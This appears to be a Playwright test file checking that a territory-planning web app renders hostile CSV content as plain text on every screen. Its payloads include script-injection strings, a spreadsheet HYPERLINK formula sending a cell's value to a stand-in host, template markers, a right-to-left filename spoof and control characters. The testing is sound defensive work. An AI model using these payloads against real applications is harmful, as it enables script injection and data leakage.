/** Text that would like to be more than text, as every name, key and header: shown as it is, run by nobody. */
import { writeFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import { button, chooseImport, chooseRole, expect, finishImport, test, territoryGrid, workspaceReady } from './app.ts';

const PAYLOADS = {
  image: '<img data-payload src=x onerror="hear(1)">',
  svg: '<svg data-payload onload="hear(2)"><script>hear(3)</script></svg>',
  script: '"><script data-payload>hear(4)</script>',
  address: 'javascript:hear(5)',
  formula: '=HYPERLINK("http://elsewhere.example/?x="&A1,"open")',
  template: '{{hear(6)}} ${hear(7)} {name} %s',
  rightToLeft: 'abc \u202Egnp.exe\u202C \u05D0\u05D1',
  prototype: '__proto__',
} as const;
const TERRITORIES = Object.values(PAYLOADS);
/** As an account's name only: a browser draws no such sign. */
const CONTROL = 'nul\u0001bell\u0007 esc\u001B[31m';

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Eight territories of twenty accounts; every header but those of the coordinates is a payload, too. */
function accountsFile(): string {
  const { image, svg, script, address, formula, template } = PAYLOADS;
  const header = [image, svg, 'lat', 'lng', script, address, formula, template];
  const rows = Array.from({ length: 160 }, (_, i) => {
    const territory = TERRITORIES[Math.floor(i / 20)]!;
    const lat = 47 + Math.floor(i / 20) * 0.3 + (i % 5) * 0.04;
    const lng = -120 + Math.floor((i % 20) / 5) * 0.06;
    const name = i % 2 === 0 ? TERRITORIES[i % 8]! : CONTROL;
    return [`${image}${i}`, name, String(lat), String(lng), String(100 + i), territory, svg, script];
  });
  return [header, ...rows].map((row) => row.map(quoted).join(',')).join('\n');
}

async function watchPage(page: Page): Promise<void> {
  page.on('dialog', (dialog) => void dialog.dismiss());
  await page.addInitScript(() => {
    const ran: string[] = [];
    Object.assign(globalThis, { ran, hear: (what: number) => ran.push(`ran ${what}`) });
    document.addEventListener('securitypolicyviolation', (event) => ran.push(`policy ${event.violatedDirective}`));
  });
}

/** Nothing has run, nothing became an element, no policy had to step in. */
async function nothingRan(page: Page, where: string): Promise<void> {
  const found = await page.evaluate(() => [
    ...(globalThis as unknown as { ran: string[] }).ran,
    ...[...document.querySelectorAll('[data-payload], [onerror], [onload], a[href^="javascript"]')].map(
      (element) => element.outerHTML,
    ),
  ]);
  expect(found, where).toEqual([]);
}

const literally = (page: Page, text: string) => expect(page.getByText(text, { exact: true }).first()).toBeVisible();

test('names, keys and headers made of markup, scripts and control signs are shown as text on every screen', async ({
  page,
}, info) => {
  await watchPage(page);
  const path = info.outputPath('accounts.csv');
  await writeFile(path, accountsFile());
  await page.goto('/');
  await chooseImport(page, path);
  const { image, svg, script, address, formula } = PAYLOADS;
  await chooseRole(page, image, 'Account id');
  await chooseRole(page, svg, 'Name');
  await chooseRole(page, script, 'Potential');
  await chooseRole(page, address, 'Territory today');
  await chooseRole(page, formula, 'Rep');
  await nothingRan(page, 'columns');
  await finishImport(page);
  await nothingRan(page, 'workspace');
  for (const name of TERRITORIES) await expect(territoryGrid(page).getByText(name, { exact: true })).toBeVisible();

  for (const tab of ['Table', 'Charts', 'Accounts', 'Problems']) {
    await page.getByRole('tab', { name: tab, exact: true }).click();
    await nothingRan(page, tab);
  }
  await territoryGrid(page).getByText(svg, { exact: true }).click();
  await expect(page.getByRole('region', { name: 'Inspector', exact: true })).toContainText(svg);
  await nothingRan(page, 'inspector');

  await page.getByRole('button', { name: /^Project / }).click();
  await page.getByRole('menuitem', { name: 'Rename project', exact: true }).click();
  await page.getByRole('textbox', { name: 'Project name', exact: true }).fill(image);
  await button(page, 'Rename').click();
  await expect(button(page, `Project ${image}`)).toBeVisible();
  await page.keyboard.press('Control+K');
  await page.getByRole('combobox', { name: /^Find a command/ }).fill('svg');
  await literally(page, svg);
  await nothingRan(page, 'palette');
  await page.keyboard.press('Escape');
  await button(page, 'Export').click();
  await expect(button(page.getByRole('dialog'), 'Save Plan file')).toBeVisible();
  await nothingRan(page, 'export');
  await page.keyboard.press('Escape');
  await button(page, 'New plan').click();
  await button(page, 'Compare').click();
  await expect(page.getByRole('table', { name: 'Figures of the plans', exact: true })).toBeVisible();
  await nothingRan(page, 'comparison');
  await page.reload();
  await expect(page.getByRole('table', { name: 'Figures of the plans', exact: true })).toBeVisible();
  await page.goBack();
  await workspaceReady(page);
  await page.getByRole('button', { name: /^Project / }).click();
  await page.getByRole('menuitem', { name: 'All projects', exact: true }).click();
  await literally(page, image);
  await nothingRan(page, 'start screen');
});
